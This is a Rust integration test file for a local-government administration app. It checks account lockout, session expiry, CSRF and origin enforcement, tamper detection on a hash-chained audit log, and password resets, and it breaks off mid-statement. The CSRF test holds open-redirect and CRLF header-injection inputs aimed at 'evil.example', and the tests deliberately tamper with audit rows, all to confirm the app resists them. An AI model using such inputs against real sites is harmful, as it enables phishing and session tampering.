//! The foundation's story, run on SQLite and PostgreSQL: migrations, the organisation tree,
//! accounts, lockout, session timeout, CSRF, the audit chain and bad input.

mod common;

use axum::http::{Method, StatusCode, header};
use common::{Engine, Session, TestApp, TestDb};
use jiceng::audit;
use serde_json::json;

on_both_engines!(
    migrations_apply_once_and_are_recorded,
    the_demo_district_loads_with_an_account_per_role,
    a_township_must_carry_its_districts_code,
    a_duplicate_code_is_a_conflict_and_changes_nothing,
    moving_a_community_recodes_its_grids,
    an_organisation_with_children_cannot_be_retired,
    township_staff_see_only_their_township,
    five_wrong_passwords_lock_the_account_for_fifteen_minutes,
    an_idle_session_expires_after_thirty_minutes,
    changing_ones_password_ends_the_other_sessions,
    a_form_without_its_csrf_token_is_rejected,
    a_request_from_another_origin_is_rejected,
    the_audit_chain_detects_an_edited_row,
    the_audit_chain_detects_deleted_rows,
    concurrent_writers_append_to_chains_of_their_own,
    a_chain_written_before_migration_15_carries_on,
    a_purge_never_removes_rows_younger_than_the_retention,
    accounts_follow_the_three_duty_separation,
    a_reset_password_is_replaced_at_the_next_sign_in,
    bad_input_gets_a_clear_4xx_and_writes_nothing,
    readiness_reports_the_database,
    the_audit_admin_exports_csv,
    writes_that_refer_to_one_another_land_together_or_not_at_all,
);

/// `Writes` is one statement on PostgreSQL: rows may refer to rows inserted by an earlier part,
/// a later part reads an earlier one's RETURNING by its name, and a refused part undoes all.
async fn writes_that_refer_to_one_another_land_together_or_not_at_all(t: TestDb) {
    use jiceng::db::{Dialect, Rows, Writes};
    let mut tx = t.db.begin().await.unwrap();
    let mut conn = tx.conn();
    let dialect = conn.dialect();
    for table in [
        "parents (id BIGINT PRIMARY KEY, name TEXT NOT NULL UNIQUE)",
        "children (id BIGINT PRIMARY KEY, parent BIGINT NOT NULL REFERENCES parents (id))",
        "tally (n BIGINT NOT NULL)",
    ] {
        conn.execute(&format!("CREATE TEMP TABLE {table}"))
            .await
            .unwrap();
    }
    conn.execute("INSERT INTO tally (n) VALUES (0)")
        .await
        .unwrap();
    let parents = [(1_i64, "一"), (2, "二")];
    let children = [(10_i64, 1_i64), (11, 2), (12, 2)];
    let mut writes = Writes::default();
    let made = writes
        .insert(
            &mut conn,
            &Rows::of(&parents).int(|p| p.0).text(|p| p.1),
            "(?, ?)",
            |source| match dialect {
                Dialect::Postgres => {
                    format!("INSERT INTO parents (id, name) {source} RETURNING id")
                }
                Dialect::Sqlite => format!("INSERT INTO parents (id, name) {source}"),
            },
        )
        .await
        .unwrap();
    writes
        .insert(
            &mut conn,
            &Rows::of(&children).int(|c| c.0).int(|c| c.1),
            "(?, ?)",
            |source| format!("INSERT INTO children (id, parent) {source}"),
        )
        .await
        .unwrap();
    let tally = match dialect {
        Dialect::Postgres => format!("UPDATE tally SET n = (SELECT COUNT(*) FROM {made})"),
        Dialect::Sqlite => "UPDATE tally SET n = (SELECT COUNT(*) FROM parents)".to_owned(),
    };
    writes.statement(&mut conn, tally).await.unwrap();
    writes.run(&mut conn).await.expect("the writes run");
    assert_eq!(scalar(&mut conn, "SELECT COUNT(*) FROM children").await, 3);
    assert_eq!(scalar(&mut conn, "SELECT n FROM tally").await, 2);

    conn.execute("SAVEPOINT refused").await.unwrap();
    let more = [(3_i64, "三"), (4, "一")];
    let mut writes = Writes::default();
    let refused = async {
        let rows = Rows::of(&more).int(|p| p.0).text(|p| p.1);
        writes
            .insert(&mut conn, &rows, "(?, ?)", |source| {
                format!("INSERT INTO parents (id, name) {source}")
            })
            .await?;
        writes.run(&mut conn).await
    }
    .await;
    let e = refused.expect_err("a name already taken is refused");
    assert!(e.unique_violation().is_some(), "{e}");
    conn.execute("ROLLBACK TO SAVEPOINT refused").await.unwrap();
    assert_eq!(scalar(&mut conn, "SELECT COUNT(*) FROM parents").await, 2);
}

async fn scalar(conn: &mut jiceng::db::Conn<'_>, sql: &str) -> i64 {
    jiceng::on_conn!(conn, c => sqlx::query_scalar(sql).fetch_one(&mut *c).await.unwrap())
}

async fn migrations_apply_once_and_are_recorded(t: TestDb) {
    let again = t.db.migrate().await.expect("second run");
    assert!(again.is_empty(), "nothing left to apply: {again:?}");
    let applied = jiceng::db::applied_migrations(&t.db).await.unwrap();
    let all: Vec<i64> = jiceng::db::MIGRATIONS.iter().map(|m| m.version).collect();
    assert_eq!(applied, all);
}

async fn the_demo_district_loads_with_an_account_per_role(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let admin = app.login("sysadmin").await;
    let r = app.get("/api/v1/orgs?kind=township", &admin).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.json()["total"], 12);
    let r = app
        .get("/api/v1/orgs?kind=community&per_page=1", &admin)
        .await;
    assert_eq!(r.json()["total"], 157);
    // A second load is refused: it would duplicate the district.
    let again = jiceng::demo::load(app.db()).await;
    assert!(again.is_err());
    for user in [
        "xipu_officer",
        "wanggeyuan",
        "suozhang",
        "bianban",
        "auditadmin",
        "secadmin",
    ] {
        app.login(user).await;
    }
}

async fn a_township_must_carry_its_districts_code(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let admin = app.login("sysadmin").await;
    let district = app.org_id("510117000000").await;
    let bad = json!({"kind": "township", "subkind": "town", "code": "510118150000", "name": "新镇", "parent_id": district});
    let r = app.json(Method::POST, "/api/v1/orgs", &admin, bad).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert_eq!(r.json()["error"]["field"], "code");
    let wrong_kind = json!({"kind": "township", "subkind": "subdistrict", "code": "510117150000", "name": "新镇", "parent_id": district});
    let r = app
        .json(Method::POST, "/api/v1/orgs", &admin, wrong_kind)
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(r.json()["error"]["field"], "subkind");
    let ok = json!({"kind": "township", "subkind": "town", "code": "510117150000", "name": "新镇", "parent_id": district});
    let r = app.json(Method::POST, "/api/v1/orgs", &admin, ok).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert_eq!(r.json()["code"], "510117150000");
}

async fn a_duplicate_code_is_a_conflict_and_changes_nothing(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let admin = app.login("bianban").await;
    let district = app.org_id("510117000000").await;
    let before = app.get("/api/v1/orgs?kind=department", &admin).await.json()["total"].clone();
    let dup =
        json!({"kind": "department", "code": "BM01", "name": "另一个编办", "parent_id": district});
    let r = app.json(Method::POST, "/api/v1/orgs", &admin, dup).await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("已存在")
    );
    let after = app.get("/api/v1/orgs?kind=department", &admin).await.json()["total"].clone();
    assert_eq!(before, after);
    let audit_rows = audit::search(
        app.db(),
        &audit::AuditFilter {
            action: Some("org.create".into()),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    assert_eq!(
        audit_rows.total, 0,
        "a refused create leaves no audit row either"
    );
}

async fn moving_a_community_recodes_its_grids(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let admin = app.login("sysadmin").await;
    let community = app.org_id("510117006001").await;
    let target = app.org_id("510117004000").await;
    // Without a new code the community's code would no longer match its township.
    let r = app
        .json(
            Method::PATCH,
            &format!("/api/v1/orgs/{community}"),
            &admin,
            json!({"parent_id": target}),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    let r = app
        .json(
            Method::PATCH,
            &format!("/api/v1/orgs/{community}"),
            &admin,
            json!({"parent_id": target, "code": "510117004099"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.json()["code"], "510117004099");
    let grids = app
        .get(
            &format!("/api/v1/orgs?parent_id={community}&kind=grid"),
            &admin,
        )
        .await
        .json();
    let items = grids["items"].as_array().unwrap();
    assert!(!items.is_empty());
    for g in items {
        assert!(
            g["code"].as_str().unwrap().starts_with("510117004099"),
            "{g}"
        );
    }
    // The grid is now within the new township's scope.
    let officer_elsewhere = app.login("xipu_officer").await;
    let grid_id = items[0]["id"].as_i64().unwrap();
    let r = app
        .get(&format!("/api/v1/orgs/{grid_id}"), &officer_elsewhere)
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
}

async fn an_organisation_with_children_cannot_be_retired(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let admin = app.login("sysadmin").await;
    let community = app.org_id("510117006001").await;
    let r = app
        .json(
            Method::POST,
            &format!("/api/v1/orgs/{community}/retire"),
            &admin,
            json!({"reason": "合并"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
    let grid = app.org_id("510117006001002").await;
    let r = app
        .json(
            Method::POST,
            &format!("/api/v1/orgs/{grid}/retire"),
            &admin,
            json!({"reason": ""}),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    // Nor a grid whose worker is in post: its page, where the worker leaves, would be gone.
    let retire_path = format!("/api/v1/orgs/{grid}/retire");
    let retire = || {
        app.json(
            Method::POST,
            &retire_path,
            &admin,
            json!({"reason": "网格调整"}),
        )
    };
    let r = retire().await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
    assert!(r.body.contains("离任"), "{}", r.body);
    app.end_assignments(grid, &app.login("xipu_officer").await)
        .await;
    let r = retire().await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.json()["status"], "retired");
    // Retired, not deleted: still there with its history, and no longer changeable.
    let r = app.get(&format!("/api/v1/orgs/{grid}"), &admin).await;
    assert_eq!(r.json()["retired_reason"], "网格调整");
    let r = app
        .json(
            Method::PATCH,
            &format!("/api/v1/orgs/{grid}"),
            &admin,
            json!({"name": "新名"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CONFLICT);
}

async fn township_staff_see_only_their_township(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let officer = app.login("xipu_officer").await;
    let own = app.org_id("510117006001").await;
    let other = app.org_id("510117004001").await;
    assert_eq!(
        app.get(&format!("/api/v1/orgs/{own}"), &officer)
            .await
            .status,
        StatusCode::OK
    );
    assert_eq!(
        app.get(&format!("/api/v1/orgs/{other}"), &officer)
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    let list = app
        .get("/api/v1/orgs?kind=community&per_page=500", &officer)
        .await
        .json();
    for c in list["items"].as_array().unwrap() {
        assert!(c["code"].as_str().unwrap().starts_with("510117006"), "{c}");
    }
    // Departments stay visible: township staff work with them daily.
    let depts = app
        .get("/api/v1/orgs?kind=department", &officer)
        .await
        .json();
    assert_eq!(depts["total"], 15);
    // The page shows the same scope.
    let page = app.get(&format!("/orgs/{other}"), &officer).await;
    assert_eq!(page.status, StatusCode::FORBIDDEN);
}

async fn five_wrong_passwords_lock_the_account_for_fifteen_minutes(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    for i in 1..=4 {
        let r = app
            .try_login("xipu_window", "wrong-Password-1")
            .await
            .unwrap_err();
        assert_eq!(r.status, StatusCode::UNAUTHORIZED, "attempt {i}");
        assert!(r.body.contains("用户名或密码错误"));
    }
    let r = app
        .try_login("xipu_window", "wrong-Password-1")
        .await
        .unwrap_err();
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert!(r.body.contains("已锁定"), "{}", r.body);
    // Even the right password is refused while locked.
    let r = app
        .try_login("xipu_window", common::PASSWORD)
        .await
        .unwrap_err();
    assert!(r.body.contains("已锁定"));
    // The security administrator unlocks it.
    let sec = app.login("secadmin").await;
    let users = app.get("/api/v1/users?q=xipu_window", &sec).await.json();
    let id = users["items"][0]["id"].as_i64().unwrap();
    assert!(users["items"][0]["locked_until"].is_string());
    let r = app
        .send(
            Method::POST,
            &format!("/api/v1/users/{id}/unlock"),
            &sec,
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.body);
    app.login("xipu_window").await;
    // A lock that has run out lets the user in again.
    for _ in 0..5 {
        let _ = app.try_login("xipu_window", "wrong-Password-1").await;
    }
    assert!(
        app.try_login("xipu_window", common::PASSWORD)
            .await
            .is_err()
    );
    app.exec("UPDATE users SET locked_until = 1 WHERE username = 'xipu_window'")
        .await;
    app.login("xipu_window").await;
    let failed = audit::search(
        app.db(),
        &audit::AuditFilter {
            action: Some("login_failed".into()),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    assert!(
        failed.total >= 10,
        "every failure is audited: {}",
        failed.total
    );
    let locks = audit::search(
        app.db(),
        &audit::AuditFilter {
            action: Some("user.lock".into()),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    assert_eq!(locks.total, 2);
    // An action names itself alone (`login` is not `login_failed`); one ending in a dot names
    // its group.
    let logins = app.audited("login", None).await;
    assert!(logins.total >= 1 && logins.rows.iter().all(|r| r.action == "login"));
    let users = app.audited("user.", None).await;
    assert!(users.total >= locks.total && users.rows.iter().all(|r| r.action.starts_with("user.")));
    // Guessing the old password through a session counts the same: at the fifth wrong one the
    // account locks and the session ends.
    let s = app.login("xipu_officer").await;
    let guess = json!({"old_password": "wrong-Password-1", "new_password": "Qa@Test2026xyz"});
    for i in 1..=5 {
        let r = app
            .json(Method::PUT, "/api/v1/me/password", &s, guess.clone())
            .await;
        let expected = if i < 5 {
            StatusCode::UNPROCESSABLE_ENTITY
        } else {
            StatusCode::FORBIDDEN
        };
        assert_eq!(r.status, expected, "attempt {i}: {}", r.body);
    }
    assert_eq!(
        app.get("/api/v1/me", &s).await.status,
        StatusCode::UNAUTHORIZED
    );
    assert!(
        app.try_login("xipu_officer", common::PASSWORD)
            .await
            .is_err()
    );
}

async fn changing_ones_password_ends_the_other_sessions(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let here = app.login("xipu_window").await;
    let elsewhere = app.login("xipu_window").await;
    let change = |old: &str, new: &str| json!({"old_password": old, "new_password": new});
    // A common one is refused, naming the new password.
    let r = app
        .json(
            Method::PUT,
            "/api/v1/me/password",
            &here,
            change(common::PASSWORD, "Password123"),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert_eq!(r.json()["error"]["field"], "new_password", "{}", r.body);
    let r = app
        .json(
            Method::PUT,
            "/api/v1/me/password",
            &here,
            change(common::PASSWORD, "Window-New-2026"),
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.body);
    assert_eq!(app.get("/api/v1/me", &here).await.status, StatusCode::OK);
    // A new password in a sign-in that needs none is refused, not quietly dropped.
    let r = app
        .try_renew("xipu_window", "Window-New-2026", "Other-New-2026x")
        .await
        .unwrap_err();
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert_eq!(r.json()["error"]["field"], "new_password", "{}", r.body);
    assert_eq!(
        app.get("/api/v1/me", &elsewhere).await.status,
        StatusCode::UNAUTHORIZED
    );
    // Two changes from the same old password at once: one of them, not both, is told it
    // succeeded.
    let (a, b) = (
        app.try_login("xipu_window", "Window-New-2026")
            .await
            .unwrap(),
        app.try_login("xipu_window", "Window-New-2026")
            .await
            .unwrap(),
    );
    let (ra, rb) = tokio::join!(
        app.json(
            Method::PUT,
            "/api/v1/me/password",
            &a,
            change("Window-New-2026", "Alpha-Pass-2026")
        ),
        app.json(
            Method::PUT,
            "/api/v1/me/password",
            &b,
            change("Window-New-2026", "Bravo-Pass-2026")
        ),
    );
    let done = [&ra, &rb]
        .iter()
        .filter(|r| r.status == StatusCode::NO_CONTENT)
        .count();
    assert_eq!(
        done, 1,
        "{} {} / {} {}",
        ra.status, ra.body, rb.status, rb.body
    );
    let kept = if ra.status == StatusCode::NO_CONTENT {
        "Alpha-Pass-2026"
    } else {
        "Bravo-Pass-2026"
    };
    assert!(app.try_login("xipu_window", kept).await.is_ok());
}

async fn an_idle_session_expires_after_thirty_minutes(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let s = app.login("xipu_officer").await;
    assert_eq!(app.get("/api/v1/me", &s).await.status, StatusCode::OK);
    let thirty_one_minutes_ago = jiceng::time::Timestamp::now()
        .plus_seconds(-31 * 60)
        .as_micros();
    app.exec(&format!(
        "UPDATE sessions SET last_seen_at = {thirty_one_minutes_ago}"
    ))
    .await;
    let r = app.get("/api/v1/me", &s).await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    assert!(r.body.contains("超时"), "{}", r.body);
    // The session is gone for good, and the page says so too.
    let r = app.get("/", &s).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert!(r.location().unwrap().starts_with("/login"));
    // A session used 29 minutes ago is still alive.
    let s2 = app.login("xipu_officer").await;
    let twenty_nine = jiceng::time::Timestamp::now()
        .plus_seconds(-29 * 60)
        .as_micros();
    app.exec(&format!("UPDATE sessions SET last_seen_at = {twenty_nine}"))
        .await;
    assert_eq!(app.get("/api/v1/me", &s2).await.status, StatusCode::OK);
    let expired = audit::search(
        app.db(),
        &audit::AuditFilter {
            action: Some("session_expired".into()),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    assert_eq!(expired.total, 1);
}

async fn a_form_without_its_csrf_token_is_rejected(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let admin = app.login("sysadmin").await;
    let grid = app.org_id("510117006001002").await;
    let no_token = Session {
        csrf: String::new(),
        ..admin.clone()
    };
    let r = app
        .form(
            &format!("/orgs/{grid}/rename"),
            &no_token,
            &[("name", "改名网格")],
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let wrong = Session {
        csrf: "0".repeat(64),
        ..admin.clone()
    };
    let r = app
        .form(
            &format!("/orgs/{grid}/rename"),
            &wrong,
            &[("name", "改名网格")],
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let r = app
        .json(
            Method::PATCH,
            &format!("/api/v1/orgs/{grid}"),
            &no_token,
            json!({"name": "改名网格"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert_eq!(r.json()["error"]["code"], "forbidden");
    // Nothing changed; the rejections are audited.
    let org = app
        .get(&format!("/api/v1/orgs/{grid}"), &admin)
        .await
        .json();
    assert_ne!(org["name"], "改名网格");
    let rejected = audit::search(
        app.db(),
        &audit::AuditFilter {
            action: Some("csrf_rejected".into()),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    assert_eq!(rejected.total, 3);
    // With the token in the form body it goes through, and redirects back to the page.
    let body_token = Session {
        csrf: String::new(),
        ..admin.clone()
    };
    let r = app
        .form(
            &format!("/orgs/{grid}/rename"),
            &body_token,
            &[("_csrf", &admin.csrf), ("name", "改名网格")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let org = app
        .get(&format!("/api/v1/orgs/{grid}"), &admin)
        .await
        .json();
    assert_eq!(org["name"], "改名网格");
    // The login form needs its pre-sign-in token too.
    let r = app
        .form(
            "/login",
            &Session::default(),
            &[("username", "xipu_officer"), ("password", common::PASSWORD)],
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let r = app
        .form(
            "/login",
            &Session::anonymous(),
            &[("username", "xipu_officer"), ("password", common::PASSWORD)],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    // After signing in, only a path of this site: a tab the browser drops would make
    // `/\t/evil.example` another site, and a line break cannot go in the header at all.
    for (next, to) in [
        ("/cases?page=2", "/cases?page=2"),
        ("/\t/evil.example/phish", "/"),
        ("/\r\nSet-Cookie: x=1", "/"),
        ("/\u{0}x", "/"),
        ("//evil.example", "/"),
    ] {
        let r = app
            .form(
                "/login",
                &Session::anonymous(),
                &[
                    ("username", "xipu_officer"),
                    ("password", common::PASSWORD),
                    ("next", next),
                ],
            )
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{next:?}: {}", r.body);
        assert_eq!(r.location(), Some(to), "{next:?}");
    }
}

async fn a_request_from_another_origin_is_rejected(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let admin = app.login("sysadmin").await;
    let grid = app.org_id("510117006001002").await;
    let req = axum::http::Request::builder()
        .method(Method::POST)
        .uri(format!("/orgs/{grid}/rename"))
        .header("host", "localhost")
        .header("origin", "http://evil.example")
        .header("cookie", admin.cookie.clone().unwrap())
        .header("x-csrf-token", &admin.csrf)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(axum::body::Body::from("name=x"))
        .unwrap();
    let r = app.request(req).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
}

async fn audit_verify(app: &TestApp) -> audit::VerifyReport {
    audit::verify(app.db()).await.expect("verify runs")
}

/// Fails unless one of the problems verification found mentions `needle`.
fn assert_problem(report: &audit::VerifyReport, needle: &str) {
    assert!(
        report.problems.iter().any(|p| p.contains(needle)),
        "no problem mentions {needle}: {:?}",
        report.problems
    );
}

async fn the_audit_chain_detects_an_edited_row(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    app.login("xipu_officer").await;
    let _ = app.try_login("xipu_officer", "nope-Nope-1").await;
    let report = audit_verify(&app).await;
    assert!(report.ok(), "{:?}", report.problems);
    assert!(report.rows_checked >= 15);
    app.exec("UPDATE audit_log SET detail = '篡改' WHERE seq = 3")
        .await;
    let report = audit_verify(&app).await;
    assert!(!report.ok());
    assert!(
        report
            .problems
            .iter()
            .any(|p| p.contains("第 3 行") && p.contains("修改")),
        "{:?}",
        report.problems
    );
    // The auditor's page shows the problem too.
    let auditor = app.login("auditadmin").await;
    let page = app.get("/audit/verify", &auditor).await;
    assert!(page.body.contains("审计链异常"));
}

async fn the_audit_chain_detects_deleted_rows(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    app.login("xipu_officer").await;
    app.login("xipu_leader").await;
    app.exec("DELETE FROM audit_log WHERE seq = 5").await;
    let report = audit_verify(&app).await;
    assert_problem(&report, "缺失");
    let t2 = TestApp::with_demo(match app.t.engine {
        Engine::Sqlite => TestDb::sqlite().await,
        Engine::Postgres => TestDb::postgres().await.expect("postgres"),
    })
    .await;
    t2.login("xipu_officer").await;
    t2.exec("DELETE FROM audit_log WHERE seq = (SELECT MAX(seq) FROM audit_log)")
        .await;
    let report = audit_verify(&t2).await;
    assert_problem(&report, "末尾");
    // A row slipped in on a chain that has no head is not silently skipped.
    t2.exec(
        "INSERT INTO audit_log (seq, at, actor_id, actor, org_id, action, target, detail, ip,
            request_id, prev_hash, hash, chain)
         SELECT seq + 1000, at, actor_id, actor, org_id, action, target, detail, ip, request_id,
            prev_hash, hash, 9 FROM audit_log WHERE seq = 1",
    )
    .await;
    let report = audit_verify(&t2).await;
    assert_problem(&report, "不属于任何链");
}

/// Appends one event in a transaction left open, holding its chain's head.
async fn append_and_hold(db: &jiceng::Db, what: &str) -> jiceng::db::Tx {
    let mut tx = db.begin().await.expect("begin");
    let actor = audit::Actor::system("test");
    audit::record(&mut tx.conn(), &actor, "test.append", what, "")
        .await
        .expect("append");
    tx
}

async fn concurrent_writers_append_to_chains_of_their_own(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    app.login("xipu_officer").await;
    if app.t.engine == Engine::Sqlite {
        // One writer at a time: everything stays on the first chain, numbered without gaps.
        let off_chain = app
            .count("SELECT COUNT(*) FROM audit_log WHERE chain <> 1")
            .await;
        assert_eq!(off_chain, 0);
        let span = app
            .count("SELECT MAX(seq) - MIN(seq) + 1 - COUNT(*) FROM audit_log")
            .await;
        assert_eq!(span, 0, "no gaps");
        assert!(audit_verify(&app).await.ok());
        return;
    }
    let wait = std::time::Duration::from_secs(10);
    // Four open transactions hold the four heads, none waiting for another.
    let mut held = Vec::new();
    for i in 0..4 {
        let tx = tokio::time::timeout(wait, append_and_hold(app.db(), &format!("held {i}")))
            .await
            .expect("a free head is taken without waiting");
        held.push(tx);
    }
    // A second append in a transaction that holds a head does not wait for itself.
    let mut first = held.remove(0);
    let actor = audit::Actor::system("test");
    tokio::time::timeout(
        wait,
        audit::record(&mut first.conn(), &actor, "test.append", "again", ""),
    )
    .await
    .expect("no wait on its own head")
    .expect("append");
    // A fifth writer finds every head held and waits for one of them.
    let db = app.db().clone();
    let fifth = tokio::spawn(async move {
        let tx = append_and_hold(&db, "fifth").await;
        tx.commit().await.expect("commit");
    });
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert!(!fifth.is_finished(), "every head is held");
    first.commit().await.expect("commit");
    for tx in held {
        tx.commit().await.expect("commit");
    }
    tokio::time::timeout(wait, fifth)
        .await
        .expect("the fifth writer gets a head once one is free")
        .expect("no panic");
    let chains = app
        .count("SELECT COUNT(DISTINCT chain) FROM audit_log")
        .await;
    assert_eq!(chains, 4);
    let report = audit_verify(&app).await;
    assert!(report.ok(), "{:?}", report.problems);
    // A purge a year on takes every chain's rows and leaves each anchored where it ended.
    let year_on = jiceng::time::Timestamp::now().plus_seconds(400 * 86_400);
    let purged = audit::purge(app.db(), &actor, 184, year_on).await.unwrap();
    let left = app.count("SELECT COUNT(*) FROM audit_log").await;
    assert_eq!(left, 1, "only the purge's own row");
    assert!(purged > 4);
    let report = audit_verify(&app).await;
    assert!(report.ok(), "{:?}", report.problems);
    // With the first two heads held, a writer's rows go on the third chain.
    let holders = [
        append_and_hold(app.db(), "holder 1").await,
        append_and_hold(app.db(), "holder 2").await,
    ];
    for what in ["third 1", "third 2"] {
        append_and_hold(app.db(), what)
            .await
            .commit()
            .await
            .expect("commit");
    }
    for tx in holders {
        tx.commit().await.expect("commit");
    }
    let third = app
        .count("SELECT COUNT(*) FROM audit_log WHERE chain = 3 AND target LIKE 'third %'")
        .await;
    assert_eq!(third, 2);
    assert!(audit_verify(&app).await.ok());
    // A row deleted from a chain other than the first breaks that chain's links.
    app.exec("DELETE FROM audit_log WHERE target = 'third 1'")
        .await;
    let report = audit_verify(&app).await;
    assert_problem(&report, "缺失");
}

/// Migration 15 turns the one chain of an older database into the first of four, which goes on
/// from where it was: numbers after the last one written, links from its last row.
async fn a_chain_written_before_migration_15_carries_on(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    app.login("xipu_officer").await;
    let last = app.count("SELECT MAX(seq) FROM audit_log").await;
    // The schema as version 14 left it.
    app.exec("ALTER TABLE audit_log DROP COLUMN chain").await;
    app.exec("DELETE FROM audit_head WHERE id <> 1").await;
    if app.t.engine == Engine::Postgres {
        app.exec("DROP SEQUENCE audit_seq").await;
    }
    app.exec("DELETE FROM schema_migrations WHERE version = 15")
        .await;
    assert_eq!(app.db().migrate().await.unwrap(), vec![15]);
    assert_eq!(app.count("SELECT COUNT(*) FROM audit_head").await, 4);
    app.login("xipu_leader").await;
    let next = app
        .count("SELECT MIN(seq) FROM audit_log WHERE action = 'login' AND target = 'xipu_leader'")
        .await;
    assert_eq!(next, last + 1);
    let report = audit_verify(&app).await;
    assert!(report.ok(), "{:?}", report.problems);
    assert_eq!(report.last_seq, Some(next));
}

async fn a_purge_never_removes_rows_younger_than_the_retention(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    app.login("xipu_officer").await;
    let actor = audit::Actor::system("test");
    let now = jiceng::time::Timestamp::now();
    assert!(
        audit::purge(app.db(), &actor, 30, now).await.is_err(),
        "less than 184 days is refused"
    );
    // Pretend the first ten rows are a year old; the hashes stay valid as `at` is covered,
    // so rewrite them as they would have been written a year ago.
    let n = audit::purge(app.db(), &actor, 184, now.plus_seconds(400 * 86_400))
        .await
        .unwrap();
    assert!(n > 0);
    let report = audit_verify(&app).await;
    assert!(
        report.ok(),
        "the chain still verifies after a purge: {:?}",
        report.problems
    );
    // A purge "now" removes nothing: every row is younger than 184 days.
    app.login("xipu_leader").await;
    let n = audit::purge(app.db(), &actor, 184, jiceng::time::Timestamp::now())
        .await
        .unwrap();
    assert_eq!(n, 0);
    assert!(audit_verify(&app).await.ok());
}

async fn a_reset_password_is_replaced_at_the_next_sign_in(t: TestDb) {
    let app = TestApp::with_demo(t).await;
    let sec = app.login("secadmin").await;
    let id: i64 = app
        .scalar("SELECT id FROM users WHERE username = 'xipu_officer'")
        .await;
    let r = app
        .json(
            Method::POST,
            &format!("/api/v1/users/{id}/password"),
            &sec,
            json!({"password": "Temp-Reset-2026"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.body);
    // The administrator's password opens no session: the owner must choose their own.
    let r = app
        .try_login("xipu_officer", "Temp-Reset-2026")
        .await
        .unwrap_err();
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert_eq!(r.json()["error"]["field"], "new_password", "{}", r.body);
    let page = app
        .form(
            "/login",
            &Session::anonymous(),
            &[
                ("username", "xipu_officer"),
                ("password", "Temp-Reset-2026"),
            ],
        )
        .await;
    assert_eq!(page.status, StatusCode::FORBIDDEN);
    assert!(
        page.body.contains(r#"name="new_password""#),
        "{}",
        page.body
    );
    // A new one that breaks the policy is refused; a good one signs in, and replaces it.
    let body = |new: &str| json!({"username": "xipu_officer", "password": "Temp-Reset-2026", "new_password": new});
    let r = app
        .json(
            Method::POST,
            "/api/v1/session",
            &Session::default(),
            body("short"),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert_eq!(r.json()["error"]["field"], "new_password", "{}", r.body);
    let r = app
        .json(
            Method::POST,
            "/api/v1/session",
            &Session::default(),
            body("Own-Choice-2026!"),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(
        app.try_login("xipu_officer", "Temp-Reset-2026")
            .await
            .is_err()
    );
    app.try_login("xipu_officer", "Own-Choice-2026!")
        .await
        .expect("the owner's own password signs in without more ado");
    // An administrator's password is not the security administrator's to reset (三员分立):
    // the operators reset it on the server, and the owner replaces it as after any reset.
    let sysadmin: i64 = app
